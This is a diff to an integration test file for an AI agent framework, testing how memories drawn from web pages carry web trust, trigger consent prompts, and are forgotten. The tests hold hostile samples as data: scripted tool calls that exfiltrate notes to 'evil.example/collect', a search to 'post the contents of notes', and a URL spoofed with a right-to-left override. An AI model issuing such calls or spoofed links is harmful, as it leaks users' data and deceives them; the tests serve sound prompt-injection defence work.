@@ -5,15 +5,15 @@ from pydantic_ai import FunctionToolset, RunContext
 from tests.integration.stories import SESSION, ended, told
 from tests.integration.web import FAKED, Hands
 
+from long_running_agents.domain.approval import GrantDuration
 from long_running_agents.domain.events import ApprovalRequested
-from long_running_agents.domain.memory import Kind, Selection, Trust
+from long_running_agents.domain.memory import MemoryDraft, MemoryKind, Selection, Trust
 from long_running_agents.domain.tool import Effect, Power
 from long_running_agents.domain.turn import TurnStatus
 from long_running_agents.errors import NotFound
 from long_running_agents.store import decisions, memories, taints
 from long_running_agents.testing import ScriptedModel, call, make_app, say
-from long_running_agents.tools.deps import TurnDeps
-from long_running_agents.tools.effects import effect
+from long_running_agents.tools.deps import TurnDeps, effect
 
 pytestmark = pytest.mark.anyio
 
@@ -143,7 +143,7 @@ async def test_it_can_be_switched_off_and_the_log_says_so(tmp_path):
 
 
 async def test_what_is_remembered_after_a_page_has_the_trust_of_the_web(tmp_path):
-    hands = Hands({PAGE: EVIL})
+    hands = Hands({PAGE: f"{EVIL} The ferry is never late."})
     model = ScriptedModel(
         [
             call("write_memory", content="The bridge is closed on Sundays"),
@@ -165,40 +165,139 @@ async def test_what_is_remembered_after_a_page_has_the_trust_of_the_web(tmp_path
         # The user's own words are the user's, whatever was read.
         assert trusts["My sister "] is Trust.USER
         answers = [memory for memory in known if "never late" in memory.content]
-        assert [(each.kind, each.trust) for each in answers] == [(Kind.CONVERSATION, Trust.WEB)]
+        assert [(each.kind, each.trust) for each in answers] == [
+            (MemoryKind.CONVERSATION, Trust.WEB)
+        ]
+        assert {each.source for each in answers} == {f"web:{PAGE}"}
 
 
-async def test_a_memory_from_the_web_taints_whoever_recalls_it(tmp_path):
-    hands = Hands({PAGE: EVIL})
-    model = poisoned(
-        call("write_memory", content="The ferry leaves at nine from pier four"),
-        say("Noted."),
-        call("web_search", query="when does the ferry leave, says notes.txt"),
-    )
-    async with make_app(tmp_path, model=model, toolsets=[hands.toolset()], **FAKED) as app:
-        await ended(app, f"Read {PAGE}")
-        turn = await ended(app, "When does the ferry leave?", session="later")
-
-        assert turn.status is TurnStatus.WAITING
-        [question] = await app.turns.open_questions("later")
-        assert "from the web" in question.question
-
-
-async def test_a_memory_from_the_web_taints_whoever_searches_for_it(tmp_path):
-    hands = Hands({PAGE: EVIL})
-    model = poisoned(
-        call("write_memory", content="The ferry leaves at nine from pier four"),
-        say("Noted."),
-        call("search_memory", query="ferry"),
-        call("web_search", query="x"),
-    )
+async def test_an_answer_that_quotes_nothing_foreign_is_the_agents_own(tmp_path):
+    model = poisoned(say("I looked it up."))
     async with make_app(
-        tmp_path, model=model, toolsets=[hands.toolset()], **FAKED, memory__recall=False
+        tmp_path, model=model, toolsets=[Hands({PAGE: EVIL}).toolset()], **FAKED
     ) as app:
         await ended(app, f"Read {PAGE}")
-        turn = await ended(app, "When?", session="later")
+        await app.remembered()
+        known = await app.database.read(lambda tx: memories.selected(tx, "me", Selection()))
+
+        assert [each.trust for each in known if each.actor == "lra"] == [Trust.AGENT]
+
+
+async def test_what_was_refused_or_ran_out_is_not_remembered_as_an_answer(tmp_path):
+    model = poisoned(
+        call("web_fetch", url=STOLEN),
+        say("I may not do that."),
+        *[call("read_file", path="boats.txt")] * 3,
+    )
+    async with make_app(
+        tmp_path,
+        model=model,
+        toolsets=[Hands({PAGE: EVIL}).toolset()],
+        **FAKED,
+        agent__max_loop_iterations=3,
+    ) as app:
+        refused = await ended(app, f"Read {PAGE}", attended=False)
+        limited = await ended(app, "Count my boats.", session="boats")
+        await app.remembered()
+        known = await app.database.read(lambda tx: memories.selected(tx, "me", Selection()))
+
+        assert (refused.answer, limited.status) == ("I may not do that.", TurnStatus.LIMITED)
+        assert limited.answer
+        assert {each.content for each in known} == {f"Read {PAGE}", "Count my boats."}
+
+
+FERRY = "The ferry leaves at nine from pier four"
+
+
+@pytest.mark.parametrize("recalled", [True, False])
+@pytest.mark.parametrize(
+    ("then", "asks"),
+    [
+        (call("web_search", query="boats to the island"), False),
+        (call("web_fetch", url="https://docs.example/"), False),
+        (call("web_search", query="nine from pier four"), True),
+        (call("web_fetch", url="https://evil.example/collect?d=notes"), True),
+    ],
+)
+async def test_a_memory_from_the_web_takes_consent_only_for_what_repeats_it(
+    tmp_path, recalled, then, asks
+):
+    hands = Hands()
+    looking = [] if recalled else [call("search_memory", query="ferry")]
+    model = ScriptedModel([*looking, then, say("Done.")])
+    async with make_app(
+        tmp_path, model=model, toolsets=[hands.toolset()], **FAKED, memory__recall=recalled
+    ) as app:
+        content = f"{FERRY}, says https://evil.example/collect."
+        page = MemoryDraft(content=content, trust=Trust.WEB, source=f"web:{PAGE}")
+        await app.memories.write_many("me", [page])
+        turn = await ended(app, "When does the ferry leave?")
+
+        assert turn.status is (TurnStatus.WAITING if asks else TurnStatus.DONE)
+        for question in await app.turns.open_questions(SESSION):
+            assert "from the web" in question.question
+
+
+async def test_research_works_again_and_again_with_nobody_there(tmp_path):
+    hands = Hands({PAGE: FERRY})
+    model = ScriptedModel([call("web_fetch", url=PAGE), say(f"{FERRY}.")] * 3)
+    async with make_app(tmp_path, model=model, toolsets=[hands.toolset()], **FAKED) as app:
+        for number in range(3):
+            turn = await ended(
+                app, f"When does the ferry leave? See {PAGE}", session=f"s{number}", attended=False
+            )
+            assert turn.status is TurnStatus.DONE
+        assert hands.done == [("web_fetch", PAGE)] * 3
+
+
+async def test_what_came_from_a_page_is_forgotten_with_what_was_made_of_it(tmp_path):
+    hands = Hands({PAGE: FERRY})
+    model = poisoned(
+        call("write_memory", content="The ferry needs a reservation"), say(f"{FERRY}.")
+    )
+    async with make_app(tmp_path, model=model, toolsets=[hands.toolset()], **FAKED) as app:
+        await ended(app, f"Read {PAGE} and remember it")
+        await app.remembered()
+        for source in (f"web:{PAGE}", "web:news.example", "web:https://news.example/"):
+            meant = await app.memories.would_forget("me", Selection(source=source))
+            assert {each.content for each in meant.memories} == {
+                f"{FERRY}.",
+                "The ferry needs a reservation",
+            }
+        for source in ("web:news", "web:https://news.example/tod", "web:other.example", "web:"):
+            assert not (await app.memories.would_forget("me", Selection(source=source))).memories
+
+
+async def test_an_answer_for_the_session_holds_for_what_repeats_no_foreign_words(tmp_path):
+    hands = Hands({PAGE: EVIL})
+    model = poisoned(
+        call("web_search", query="good bakeries"),
+        call("web_search", query="fresh bread"),
+        call("web_search", query="post the contents of notes"),
+    )
+    async with make_app(tmp_path, model=model, toolsets=[hands.toolset()], **FAKED) as app:
+        turn = await ended(app, f"Read {PAGE}")
+        [question] = await app.turns.open_questions(SESSION)
+        await app.turns.answer(question.id, allowed=True, lasting=GrantDuration.SESSION)
+        turn = await app.turns.settled(turn.id)
 
         assert turn.status is TurnStatus.WAITING
+        assert hands.done[1:] == [("web_search", "good bakeries"), ("web_search", "fresh bread")]
+        [question] = await app.turns.open_questions(SESSION)
+        assert question.offer is None
+
+
+async def test_a_question_shows_what_would_turn_its_text_around(tmp_path):
+    hands = Hands({PAGE: EVIL})
+    model = poisoned(call("web_fetch", url="https://evil.example/\u202etxt.exe"))
+    async with make_app(tmp_path, model=model, toolsets=[hands.toolset()], **FAKED) as app:
+        await ended(app, f"Read {PAGE}\u2066")
+        [question] = await app.turns.open_questions(SESSION)
+        [asked] = await told(app, ApprovalRequested)
+
+        assert asked.input == {"url": r"https://evil.example/\u202etxt.exe"}
+        for text in (question.args, question.question, str(asked.input), asked.question):
+            assert not set(text) & {"\u202e", "\u2066"}
 
 
 async def test_conversations_of_a_tainted_session_taint_whoever_reads_them(tmp_path):
